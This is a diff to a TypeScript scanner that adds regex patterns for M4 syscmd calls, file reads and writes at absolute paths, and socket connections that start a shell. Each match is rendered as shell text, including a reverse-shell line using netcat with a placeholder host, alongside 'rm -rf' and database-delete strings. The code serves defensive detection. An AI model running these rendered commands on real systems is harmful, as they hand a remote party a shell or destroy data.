@@ -39,6 +39,29 @@ const QUERIES =
 /** `Repo.delete_all(User)`: a schema, with no query. */
 const EMPTIED = /\bRepo\.delete_all\(?\s*[A-Z][\w.]*\s*(?:\)|$)/m;
 
+/** `esyscmd(ls)`, `syscmd(`ls')` of M4. */
+export function macroCommands(text: string): readonly string[] {
+  const calls = text.matchAll(/\be?syscmd\(\s*`?([^\n]{1,1000}?)'?\)(?=\s*$|[^)])/gm);
+  return Array.from(calls, ([, command = ""]) => command);
+}
+
+/** Calls that read the file at a path from the root or the home. */
+const READINGS =
+  /\b(?:(?:os\.)?ReadFile|os\.Open|ioutil\.ReadFile|read_?(?:File|to_string|lines|Text|Bytes|AllText|AllLines|string|toString)\w*!?|File(?:::|\.)(?:read!?|stream!?|open!?|OpenRead)|File(?:Input)?(?:Reader|Stream)|Path\.of|Paths\.get|slurp|fopen|ifstream|(?:new )?File|call-with-input-file|with-open-file|insert-file-contents|atPath:|contentsOfFile:)[\s([]+(?:\w+\()?"(~?\/[^"\n]{1,300})"/gi;
+
+/** Calls that write it. */
+const WRITINGS =
+  /\b(?:(?:os\.)?WriteFile|os\.Create|ioutil\.WriteFile|(?:write|append)_?(?:File|Text|AllText|AllLines|string|Bytes)\w*|File(?:::|\.)(?:write!?|create)|fs::write|File(?:Output)?(?:Writer|Stream)|ofstream|spit|call-with-output-file)[\s([]+(?:\w+\()?"(~?\/[^"\n]{1,300})"/gi;
+
+/** `fopen("a", "w")` of C and of Octave. */
+const OPENED = /\bfopen\s*\(\s*"(~?\/[^"\n]{1,300})"\s*,\s*"[wa]/g;
+
+/** A call that connects to another host, and a shell that is started: whoever is there commands it. */
+const CONNECTS =
+  /\b(?:Socket|TCPSocket|TcpClient|ClientSocket|net\.Dial|TcpStream::connect|gen_tcp[:.]connect|socket\s+\$)\b|\bconnect\s*\(|\[\s*socket\b/;
+
+const SHELL = /["'`\s(](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh["'`\s]|["']cmd(?:\.exe)?["']/;
+
 /** What code of a language without a scanner starts and deletes, as shell text, by the names of its calls. */
 export function foreignCommands(text: string): readonly string[] {
   const found: string[] = [];
@@ -62,5 +85,9 @@ export function foreignCommands(text: string): readonly string[] {
   for (const [, path = ""] of text.matchAll(DELETED)) found.push(`rm -rf ${quoteWord(path)}`);
   for (const [, sql = ""] of text.matchAll(QUERIES)) found.push(`psql -c ${quoteWord(sql)}`);
   if (EMPTIED.test(text)) found.push("psql -c 'delete from objects'");
+  for (const [, path = ""] of text.matchAll(READINGS)) found.push(`cat ${quoteWord(path)}`);
+  for (const [, path = ""] of [...text.matchAll(WRITINGS), ...text.matchAll(OPENED)])
+    found.push(`echo x > ${quoteWord(path)}`);
+  if (CONNECTS.test(text) && SHELL.test(text)) found.push('nc "$HOST" 1 -e /bin/sh');
   return found;
 }
